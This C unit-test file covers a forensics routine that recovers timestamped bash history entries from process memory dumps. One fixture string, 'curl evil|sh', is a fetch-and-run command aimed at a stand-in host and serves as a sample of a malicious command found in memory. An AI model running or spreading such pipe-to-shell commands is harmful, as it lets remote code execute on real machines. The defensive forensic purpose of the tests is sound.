/* SPDX-License-Identifier: Apache-2.0 */
#include "report/bash_history.h"

#include "tests/unit/core_fixture.h"

#define HEAP  0x600000ULL
#define PAGES 130U /* more than a scan reads at once */
#define CHUNK (1U << 18)

struct scene {
	struct subject subject;
	uint8_t bytes[PAGES * PAGE];
	struct ic_member member;
	struct ic_run run;
	struct ic_mapping mapping;
	struct ic_process *process;
};

static void scene_make(struct scene *scene, const struct ic_arch *arch)
{
	memset(scene, 0, sizeof(*scene));
	scene->process = subject_make(&scene->subject, arch);
	scene->member = (struct ic_member){ .name = "pages-1.img",
					    .size = sizeof(scene->bytes),
					    .has_blob = true,
					    .blob = { scene->bytes, -1, 0, sizeof(scene->bytes) } };
	scene->run = (struct ic_run){ HEAP, sizeof(scene->bytes), 0, &scene->member,
				      IC_ORIGIN_DUMPED };
	scene->mapping = anonymous(HEAP, sizeof(scene->bytes));
	map(scene->process, &scene->mapping, 1);
	scene->process->space.pages = (struct ic_runs){ &scene->run, 1 };
}

static void put_text(struct scene *scene, size_t at, const char *text)
{
	memcpy(scene->bytes + at, text, strlen(text) + 1);
}

static void put_word(struct scene *scene, size_t at, uint64_t value)
{
	ic_put(scene->bytes + at, scene->process->arch->word_bytes,
	       scene->process->arch->big_endian, value);
}

/* HIST_ENTRY: the command, its time, and data that nobody uses. */
static void put_entry(struct scene *scene, size_t at, size_t line, size_t stamp)
{
	put_word(scene, at, HEAP + line);
	put_word(scene, at + scene->process->arch->word_bytes, HEAP + stamp);
}

static struct ic_bash_history find(struct unit *unit, const struct scene *scene)
{
	struct ic_bash_history history = { .nr = 99 };

	assert_null(ic_bash_history_find(scene->process, unit->arena, &history));
	return history;
}

static void commands_come_by_time_on_every_architecture(void **state)
{
	static struct scene scene;

	for (size_t i = 0; i < ic_nr_archs; i++) {
		struct ic_bash_history history;

		scene_make(&scene, ic_archs[i]);
		put_text(&scene, 0x100, "ls -l");
		put_text(&scene, 0x200, "#1700000002");
		put_text(&scene, 0x300, "curl evil|sh");
		put_text(&scene, 0x401, "#1700000001"); /* texts need no alignment */
		put_entry(&scene, 0x800, 0x100, 0x200);
		put_entry(&scene, 0x900, 0x300, 0x401);
		history = find(*state, &scene);
		assert_int_equal(history.nr, 2);
		assert_false(history.cut);
		assert_string_equal(history.command[0].command.bytes, "curl evil|sh");
		assert_int_equal(history.command[0].time, 1700000001);
		assert_int_equal(history.command[0].vaddr, HEAP + 0x900);
		assert_string_equal(history.command[1].command.bytes, "ls -l");
		assert_int_equal(history.command[1].time, 1700000002);
	}
}

/* All that was read from a history file has one time: the shell's list tells which came first. */
static void commands_of_one_time_come_in_the_order_of_the_shells_list(void **state)
{
	static const size_t lines[] = { 0x300, 0x100, 0x200 };
	static struct scene scene;

	for (size_t i = 0; i < ic_nr_archs; i++) {
		size_t word = ic_archs[i]->word_bytes;
		struct ic_bash_history history;

		scene_make(&scene, ic_archs[i]);
		put_text(&scene, 0x80, "#1700000002");
		put_text(&scene, 0x100, "second");
		put_text(&scene, 0x200, "third");
		put_text(&scene, 0x300, "first");
		put_text(&scene, 0x380, "forgotten");
		put_entry(&scene, 0x700, 0x380, 0x80);
		for (size_t j = 0; j < 3; j++) {
			put_entry(&scene, 0x800 + lines[j], lines[j], 0x80);
			/* The list goes over the border of a chunk; before it lies an older one. */
			put_word(&scene, CHUNK - word + j * word, HEAP + 0x800 + lines[j]);
		}
		put_word(&scene, 0x2000, HEAP + 0x800 + lines[2]);
		put_word(&scene, 0x2000 + word, HEAP + 0x800 + lines[0]);
		history = find(*state, &scene);
		assert_int_equal(history.nr, 4);
		assert_string_equal(history.command[0].command.bytes, "first");
		assert_string_equal(history.command[1].command.bytes, "second");
		assert_string_equal(history.command[2].command.bytes, "third");
		assert_string_equal(history.command[3].command.bytes, "forgotten");
		assert_true(history.command[3].rank == SIZE_MAX);
	}
}

static void what_lies_across_the_border_of_a_chunk_is_found(void **state)
{
	static struct scene scene;

	for (size_t before = 1; before < 12; before++) {
		struct ic_bash_history history;

		scene_make(&scene, &ic_arch_x86_64);
		put_text(&scene, CHUNK - before, "#1700000002");
		put_text(&scene, CHUNK + PAGE, "id");
		put_entry(&scene, 0x100, CHUNK + PAGE, CHUNK - before);
		history = find(*state, &scene);
		assert_int_equal(history.nr, 1);
		assert_int_equal(history.command[0].vaddr, HEAP + 0x100);
		assert_int_equal(history.command[0].time, 1700000002);
	}
	scene_make(&scene, &ic_arch_x86_64); /* an entry with its words in two chunks */
	put_text(&scene, 0x200, "#1700000002");
	put_text(&scene, 0x300, "id");
	put_entry(&scene, CHUNK - 8, 0x300, 0x200);
	assert_int_equal(find(*state, &scene).nr, 1);
}

static void what_is_no_time_is_no_entry(void **state)
{
	static const char *const texts[] = { "#",        "# 17", "#17x", "#12345678901234",
					     "17000000", "#-5" };
	static struct scene scene;

	for (size_t i = 0; i < IC_NR(texts); i++) {
		scene_make(&scene, &ic_arch_x86_64);
		put_text(&scene, 0x100, "ls");
		put_text(&scene, 0x200, texts[i]);
		put_entry(&scene, 0x800, 0x100, 0x200);
		assert_int_equal(find(*state, &scene).nr, 0);
	}
}

static void an_entry_without_a_command_is_none(void **state)
{
	static struct scene scene;

	scene_make(&scene, &ic_arch_x86_64);
	put_text(&scene, 0x200, "#1700000002");
	put_entry(&scene, 0x800, 0x100, 0x200); /* "" */
	put_word(&scene, 0x908, HEAP + 0x200);  /* a NULL */
	put_entry(&scene, 0xa00, UINT64_MAX - HEAP - 3, 0x200);
	put_word(&scene, 0xb08, HEAP + 0x200);
	put_word(&scene, 0xb00, HEAP + sizeof(scene.bytes) - 4); /* no end */
	memset(scene.bytes + sizeof(scene.bytes) - 4, 'x', 4);
	assert_int_equal(find(*state, &scene).nr, 0);
	put_word(&scene, 0, HEAP + 0x200); /* the second word of an entry before the memory */
	assert_int_equal(find(*state, &scene).nr, 0);
}

static void only_private_memory_that_is_written_is_searched(void **state)
{
	static struct scene scene;

	scene_make(&scene, &ic_arch_x86_64);
	put_text(&scene, 0x100, "ls");
	put_text(&scene, 0x200, "#1700000002");
	put_entry(&scene, 0x800, 0x100, 0x200);
	assert_int_equal(find(*state, &scene).nr, 1);
	scene.mapping.prot = PF_R;
	assert_int_equal(find(*state, &scene).nr, 0);
	scene.mapping.prot = PF_R | PF_W;
	scene.mapping.shared = true;
	assert_int_equal(find(*state, &scene).nr, 0);
}

/* As many times as there is room for: an entry each, all found in one pass. */
static void memory_full_of_times_is_searched_in_one_pass(void **state)
{
	static struct scene scene;
	size_t nr = 0;

	scene_make(&scene, &ic_arch_x86_64);
	for (size_t at = 0; at + 32 <= sizeof(scene.bytes); at += 32, nr++) {
		put_text(&scene, at, "#1700000");
		put_entry(&scene, at + 16, at, at);
	}
	assert_int_equal(find(*state, &scene).nr, nr);
}

static void a_shell_is_told_by_its_name_or_by_its_programs(void **state)
{
	static struct scene scene;
	static struct ic_file exe = { .path = TEXT("/usr/bin/bash") };

	(void)state;
	scene_make(&scene, &ic_arch_x86_64);
	assert_false(ic_bash_is_shell(scene.process));
	scene.process->exe = &exe;
	assert_true(ic_bash_is_shell(scene.process));
	exe.path = (struct ic_text)TEXT("/usr/bin/bashful");
	assert_false(ic_bash_is_shell(scene.process));
	exe.path = (struct ic_text){ NULL, 0 };
	assert_false(ic_bash_is_shell(scene.process));
	scene.process->comm = (struct ic_text)TEXT("dash");
	assert_true(ic_bash_is_shell(scene.process));
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		folder_test(commands_come_by_time_on_every_architecture),
		folder_test(commands_of_one_time_come_in_the_order_of_the_shells_list),
		folder_test(what_lies_across_the_border_of_a_chunk_is_found),
		folder_test(what_is_no_time_is_no_entry),
		folder_test(an_entry_without_a_command_is_none),
		folder_test(only_private_memory_that_is_written_is_searched),
		folder_test(memory_full_of_times_is_searched_in_one_pass),
		folder_test(a_shell_is_told_by_its_name_or_by_its_programs),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
